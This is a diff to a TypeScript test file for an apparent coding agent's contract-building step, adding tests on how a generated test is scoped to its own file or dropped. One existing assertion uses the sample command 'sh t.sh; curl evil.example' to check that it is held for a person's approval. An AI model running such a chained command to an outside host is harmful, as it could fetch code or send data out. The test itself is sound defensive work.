@@ -5,6 +5,7 @@ import type { EventInput } from "@/server/events/schema";
 import type { AgentModel, ContractInput } from "@/server/model/types";
 import { ModelOutputError } from "@/server/model/types";
 import { DEFAULT_CHECKPOINTS } from "@/server/policy/checkpoints";
+import type { CodebaseIntent } from "./discovery/codebase-intent";
 import { buildContract, contractEvents, testFirstAction, type UnderstandingHost } from "./understanding-step";
 
 const CALL = {
@@ -184,5 +185,48 @@ describe("buildContract", () => {
     expect(outcome.dropped).toEqual([
       expect.stringMatching(/^`sh t.sh; curl evil.example` would need a person's approval/),
     ]);
+  });
+
+  describe("issue #4's rule for a generated test", () => {
+    const proposed = {
+      path: "src/greet.test.ts",
+      content: "test('hi', () => {});\n",
+      command: "npx vitest run",
+    };
+    const codebase = (testFramework: string, testFiles: string[]) =>
+      ({ testFramework, testFiles }) as unknown as CodebaseIntent;
+    const contractFor = async (context: { codebase: CodebaseIntent }) => {
+      const { host } = hostWith(async () => ({
+        contract: { thought: "t", criteria: [], dropped: [], generatedTest: proposed },
+        call: CALL,
+      }));
+      // The project lets commands run unasked, so only the rule decides what is kept.
+      const neverAsk = { ...DEFAULT_CHECKPOINTS, commands: "never-ask" as const };
+      const unasked = { ...host, checkpoints: async () => neverAsk };
+      return buildContract(unasked, intention("it greets"), { task: "t", ...context }, signal);
+    };
+
+    it("runs the generated file alone: an unscoped command is replaced by the framework's scoped one", async () => {
+      const outcome = await contractFor({ codebase: codebase("vitest", ["src/other.test.ts"]) });
+      expect(outcome.criteria).toEqual([
+        { kind: "GENERATED_TEST_PASSES", path: proposed.path, command: "npx vitest run src/greet.test.ts" },
+      ]);
+      expect(outcome.generatedTest).toEqual({ path: proposed.path, content: proposed.content });
+    });
+
+    it("drops it, with the reason, when a test for the target already exists", async () => {
+      const outcome = await contractFor({ codebase: codebase("vitest", ["test/greet.spec.ts"]) });
+      expect(outcome.generatedTest).toBeNull();
+      expect(outcome.criteria).toEqual([]);
+      expect(outcome.dropped).toEqual([
+        "generated test src/greet.test.ts: a test for it already exists (test/greet.spec.ts)",
+      ]);
+    });
+
+    it("drops it for a Rust project", async () => {
+      const outcome = await contractFor({ codebase: codebase("cargo test", []) });
+      expect(outcome.generatedTest).toBeNull();
+      expect(outcome.dropped).toEqual([expect.stringMatching(/not for Rust/)]);
+    });
   });
 });
